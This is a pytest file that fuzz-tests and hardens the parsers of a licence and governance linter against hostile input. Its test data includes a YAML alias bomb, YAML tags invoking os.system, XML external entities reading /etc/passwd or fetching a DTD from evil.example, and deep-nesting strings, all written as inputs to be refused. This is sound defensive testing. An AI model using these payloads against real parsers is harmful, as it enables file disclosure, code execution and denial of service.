"""Inputs that parsers dislike: each has its outcome, and none takes work that outgrows its size."""

from __future__ import annotations

import sys
import time
from collections.abc import Callable
from contextlib import suppress
from datetime import date
from itertools import count
from typing import TYPE_CHECKING

import pytest
from fuzz import seeds
from fuzz.material import TOKENS
from running import lay_out

from os2lint.comparison import parse_baseline
from os2lint.configuration import Configuration, parse_configuration
from os2lint.engine import lint
from os2lint.facts import Circumstances, manifests
from os2lint.facts.commits import refers_to_issue
from os2lint.facts.manifests import ManifestError
from os2lint.governance.reader import read_report
from os2lint.governance.report import NotAReport
from os2lint.licenses import identify
from os2lint.licenses.expressions import parse_expression
from os2lint.licenses.names import named
from os2lint.mistakes import ConfigurationError
from os2lint.parsers.decode import decode
from os2lint.parsers.glance import possible_anchors, possible_targets
from os2lint.parsers.reading import read_page
from os2lint.parsers.yaml import YamlError, load_yaml
from os2lint.repository import gitconfig, open_repository
from os2lint.rules import built_in, read_rule

if TYPE_CHECKING:
    from pathlib import Path

Reader = Callable[[str], object]
REFUSALS = (YamlError, ManifestError, ConfigurationError)

READERS: dict[str, Reader] = {
    "yaml": load_yaml,
    "configuration": lambda text: parse_configuration(text, ".os2lint.yml"),
    "rule": lambda text: read_rule(text, "own/rule.yml"),
    "baseline": lambda text: parse_baseline(text.encode(), "baseline.json"),
    "markdown": lambda text: read_page("README.md", text).anchors,
    "html": lambda text: read_page("README.html", text).anchors,
    "restructured text": lambda text: read_page("README.rst", text).anchors,
    "asciidoc": lambda text: read_page("README.adoc", text).anchors,
    "glance": lambda text: (list(possible_targets(text)), possible_anchors(text)),
    "governance report": lambda text: read_report(text.encode(), "rapport.md"),
    "license": lambda text: identify(text.encode()),
    "expression": parse_expression,
    "license names": named,
    "issue references": refers_to_issue,
    "git configuration": gitconfig.parse,
    "decode": lambda text: decode(text.encode()),
    **{
        reader.__name__: (lambda text, reader=reader: list(reader(text)))
        for reader in (
            *(manifests.package_json, manifests.composer_json, manifests.pyproject, manifests.cargo),
            *(manifests.reuse_toml, manifests.setup_cfg, manifests.publiccode, manifests.dep5),
            *(manifests.pom, manifests.csproj),
        )
    },
}
#: What is repeated: what means something to a format, alone and as lines of it.
PUMPS = (
    *(token.decode("utf-8", "replace") for token in TOKENS),
    *(
        "a",
        "a ",
        "a.",
        "a-",
        "a_",
        "1",
        "1.",
        "- ",
        "> ",
        "* a\n",
        "1. a\n",
        "# a\n",
        "a\n=\n",
        "| a | b |\n",
        "|-|-|\n",
    ),
    *(
        "[a](b) ",
        "[a][b] ",
        "[a]: b\n",
        "![a](b)",
        "**a",
        "*a_",
        "<a href=x>",
        "<br>",
        "</p>",
        "<!-- -->",
        "<!--\n",
    ),
    *(
        "```\n",
        "    a\n",
        "a: b\n",
        "- a: b\n",
        "- - ",
        "{a: ",
        "[a, ",
        "&a [*a]\n",
        "'a' ",
        '"a" ',
        "? a\n",
        "|\n",
    ),
    *(
        "[a]\n",
        "[[a]]\n",
        "a = 1\n",
        "a = 'b'\n",
        "a.b.",
        '{"a":',
        "[1,",
        '"a",',
        "<a>",
        "<a b='c'>",
        "&#65;",
        "&lt;",
    ),
    *(
        "MIT ",
        "MIT OR ",
        "(MIT ",
        "GPL v2 ",
        "license ",
        "version ",
        "Copyright (c) 2020 A\n",
        "(c) ",
        "[year] ",
    ),
    *(
        "SPDX-License-Identifier: MIT\n",
        "All rights reserved. ",
        "Permission is hereby granted, ",
        "the software ",
    ),
    *(
        "| R1 | a | Ja | b |\n",
        "## R1 - a\n\n**Status:** Ja\n",
        "[x] ",
        "R1 ",
        "<ul><li> [x] </li>",
        "**Dato:** 2026\n",
        "R1;a;Ja;b\n",
        "#;Krav;Status\nR1;a;Ja\n",
        "Krav,Status\n",
        '"R1\n',
        "|===\n",
        "|R1\n",
        "9+|",
        ".. list-table::\n",
        "   * - R1\n     - Ja\n",
        ":Status: Ja\n",
    ),
    *(
        "#1 ",
        "fixes #1 ",
        "GH-1 ",
        "https://a.b/c ",
        "a@b.c ",
        "Files: *\nLicense: a\n",
        "License: ",
        '[a "b"]\n',
        "c = \\\n",
    ),
)
#: What comes before, so that the repetition is met inside of something.
STARTS = {
    "package_json": ("", '{"license": [', '{"license": "'),
    "composer_json": ("", '{"license": ['),
    "pyproject": ("", "[project]\nlicense = '", "a = [", "a = {"),
    "cargo": ("", "[package]\nlicense = '"),
    "setup_cfg": ("", "[metadata]\nlicense = ", "[metadata]\na"),
    "pom": ("", "<project><licenses><license><name>", "<project>"),
    "csproj": ("", "<Project><PropertyGroup>"),
    "license": ("", "Copyright (c) 2020 ", seeds.MIT.decode()),
    "governance report": (
        seeds.reports()[0].decode()[:1000],
        "#;Krav;Status\nR1;a;Ja\n",
        "|===\n|# |Krav |Status\n\n|R1\n",
        ".. list-table::\n\n   * - #\n     - Krav\n     - Status\n",
    ),
    "yaml": ("", "a: ", "a: '", "- "),
}
SMALL, LARGE = 1_000, 8_000


def read(reader: Reader, text: str) -> None:
    with suppress(*REFUSALS):
        reader(text)


def calls(reader: Reader, text: str) -> int:
    """Count the functions that reading calls, ours and Python's."""
    number = 0

    def profile(_frame: object, event: str, _argument: object) -> None:
        nonlocal number
        number += event in {"call", "c_call"}

    sys.setprofile(profile)
    try:
        read(reader, text)
    finally:
        sys.setprofile(None)
    return number


def seconds(reader: Reader, text: str) -> float:
    began = time.process_time()
    read(reader, text)
    return time.process_time() - began


def pumped(start: str, pump: str, size: int) -> str:
    """Return a text of a length; numbers keep its lines apart where two of a kind would be refused."""
    if pump == "a: b\n":
        numbers = count()
        return start + "".join(f"a{next(numbers)}: b\n" for _ in range(size // 9))
    return start + pump * (size // len(pump))


@pytest.mark.parametrize("name", READERS)
def test_twice_the_text_takes_twice_the_steps(name: str) -> None:
    reader = READERS[name]
    read(reader, "a")
    for start in STARTS.get(name, ("",)):
        for pump in PUMPS:
            single = calls(reader, pumped(start, pump, SMALL // 2))
            double = calls(reader, pumped(start, pump, SMALL))
            assert double <= 2.2 * single + 200, (start[-30:], pump, single, double)


@pytest.mark.parametrize("name", READERS)
def test_the_steps_themselves_do_not_grow(name: str) -> None:
    """Eight times the text takes far less than 64 times the time: no step looks at all of it."""
    reader = READERS[name]
    read(reader, "a")
    for start in STARTS.get(name, ("",)):
        for pump in PUMPS:
            small, large = pumped(start, pump, SMALL), pumped(start, pump, LARGE)
            if seconds(reader, large) > 0.04:
                before = min(seconds(reader, small) for _ in range(3))
                after = min(seconds(reader, large) for _ in range(3))
                assert after <= 20 * before + 0.05, (start[-30:], pump, before, after)


# Outcomes

DEEP = 100_000
LAUGHS = "a: &a [x, x, x, x, x, x, x, x]\n" + "".join(
    f"{after}: &{after} [{', '.join(f'*{before}' for _ in range(8))}]\n"
    for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (LAUGHS, "more than"),
        ("a: &a [*a]\n", "alias without its anchor"),
        # libyaml has a limit of its own from 0.2.6 on
        ("[" * DEEP, "nested deeper|nesting depth"),
        ("{" * DEEP, "key must be a word|nesting depth"),
        ("a:\n" + "".join(" " * level + "-\n" for level in range(1, 200)), "nested deeper"),
        ("- " * DEEP, "nested deeper"),
        ("a: 1\na: 2\n", "stands twice"),
        ("a: !!python/object/apply:os.system [id]\n", "tags are not read"),
        ("a: !include /etc/passwd\n", "tags are not read"),
        ("a: " + "x" * (1 << 20), "longer than"),
        ("? [a, b]\n: c\n", "key must be a word"),
        ("a\0b", "character"),
        ("--- a\n--- b\n", "more than one document"),
        ("%YAML 9.9\n---\na\n", "incompatible"),
        ("a: \ud800", "character"),
    ],
)
def test_yaml_that_is_refused(text: str, said: str) -> None:
    with pytest.raises(YamlError, match=said):
        load_yaml(text)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("a: <<\n", {"a": "<<"}),
        ("<<: {a: b}\n", {"<<": {"a": "b"}}),
        ("a: " + "9" * 5000, {"a": "9" * 5000}),
        ("a: 1e999\n", {"a": "1e999"}),
        ("a: .inf\n", {"a": ".inf"}),
        ("a: 2026-01-01\n", {"a": "2026-01-01"}),
        ("a: 0x1F\n", {"a": "0x1F"}),
        ("a: no\n", {"a": "no"}),
        ("", None),
    ],
)
def test_yaml_that_is_plain_data(text: str, value: object) -> None:
    assert load_yaml(text).value == value


ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "MIT">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
    '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
)
POM = "<project><licenses><license><name>{}</name></license></licenses></project>"


@pytest.mark.parametrize(
    ("reader", "text"),
    [
        *((manifests.pom, entity + POM.format("&a;")) for entity in ENTITIES),
        (manifests.pom, "<a>" * DEEP),
        (manifests.pom, POM.format("&undefined;")),
        (manifests.pom, "\0" + POM.format("MIT")),
        (manifests.package_json, "[" * DEEP),
        (manifests.package_json, '{"a":' * DEEP),
        (manifests.package_json, '{"license": ' + "9" * 5000 + "}"),
        (manifests.package_json, "{"),
        (manifests.pyproject, "a = " + "[" * DEEP),
        (manifests.pyproject, "a." * 5000 + "a = 1\n"),
        (manifests.pyproject, "[" + "a." * 5000 + "a]\n"),
        (manifests.pyproject, "a = 1\na = 2\n"),
        (manifests.pyproject, "a = 9999-99-99\n"),
        (manifests.publiccode, LAUGHS),
        (manifests.publiccode, "legal: !!python/name:os.system\n"),
    ],
)
def test_manifests_that_are_refused(reader: Callable[[str], object], text: str) -> None:
    with pytest.raises(ManifestError):
        list(reader(text))


@pytest.mark.parametrize(
    ("reader", "text", "values"),
    [
        (manifests.pom, '<!DOCTYPE project SYSTEM "file:///etc/passwd">' + POM.format("MIT"), ["MIT"]),
        (
            manifests.pom,
            '<!DOCTYPE project PUBLIC "x" "http://evil.example/x.dtd">' + POM.format("MIT"),
            ["MIT"],
        ),
        (manifests.pom, POM.format("<![CDATA[</name>]]>"), ["</name>"]),
        (manifests.package_json, '{"license": NaN}', []),
        (manifests.package_json, '{"license": 1e999}', []),
        (manifests.package_json, '{"license": "a", "license": "b"}', ["b"]),
        (manifests.package_json, '{"license": {"type": {"type": "MIT"}}}', []),
        (manifests.package_json, '{"license": "\\ud800"}', ["\ud800"]),
        (manifests.package_json, "[]", []),
        (manifests.pyproject, "project = 1\n", []),
        (manifests.setup_cfg, "[metadata]\nlicense = file: /etc/passwd\n", ["file: /etc/passwd"]),
        (manifests.setup_cfg, "[metadata]\nlicense = %(home)s\n", ["%(home)s"]),
        (manifests.publiccode, "legal: []\n", []),
        (manifests.publiccode, "- a\n", []),
    ],
)
def test_manifests_that_are_read(reader: Callable[[str], object], text: str, values: list[str]) -> None:
    assert [value.text for value in reader(text)] == values


@pytest.mark.parametrize(
    "text",
    [
        *(
            "[" * 20_001,
            "[a](" * 20_001,
            "> " * 50_000,
            "- " * 50_000,
            "*" * 50_000,
            "`" * 50_000,
            "<" * 50_000,
        ),
        *(
            "| a " * 5_000 + "|\n" + "|---" * 5_000 + "|\n" + "| b |\n" * 5_000,
            "[a]: b\n" * 20_000,
            "&" * 50_000,
        ),
        *("_a *" * 20_000, "~" * 50_000, "a\n=\n" * 20_000, "<!--" * 20_000, "![[" * 5_000, "\\" * 50_000),
    ],
)
def test_markdown_of_any_sort_is_a_page(text: str) -> None:
    page = read_page("README.md", text)
    assert len(page.links) <= len(text)
    assert all(1 <= paragraph.line <= text.count("\n") + 1 for paragraph in page.paragraphs)


@pytest.mark.parametrize(
    "text", ["{" * DEEP, "[" * DEEP, '{"krav": NaN}', '{"krav": ' + "9" * 5000 + "}", "\0", "null"]
)
def test_reports_that_are_none(text: str) -> None:
    assert isinstance(read_report(text.encode(), "selvevaluering.json"), NotAReport)


def test_a_repository_of_nothing_but_broken_files(tmp_path: Path) -> None:
    """Each is a finding, not assessed, or of no account; the lint comes to its end."""
    broken = {
        "README.md": "[" * 30_000,
        "LICENSE": "\0" * 1000,
        "publiccode.yml": LAUGHS,
        "package.json": "[" * DEEP,
        "composer.json": '{"license": ' * 1000,
        "pyproject.toml": "a = " + "[" * 10_000,
        "pom.xml": ENTITIES[1] + POM.format("&a;"),
        "setup.cfg": "[metadata\nlicense",
        "REUSE.toml": "[[annotations]]\npath = 1\n",
        "governance-rapport.md": "| R1 " * 10_000,
        "docs/selvevaluering.json": "{" * DEEP,
        "_config.yml": "a: !!x y\n",
        "mkdocs.yml": "[" * 100,
        ".gitignore": "\xff**/**/" * 1000,
        "renovate.json": "{" * DEEP,
    }
    repository = open_repository(lay_out(tmp_path / "repository", broken))
    report = lint(repository, built_in(), Configuration(), Circumstances(today=date(2026, 11, 1)))
    told = {finding.location.path: finding.rule for finding in report.findings if finding.location}
    assert told["publiccode.yml"] == "publiccode-invalid"
    assert report.facts["license"]["osi_approved"] is None
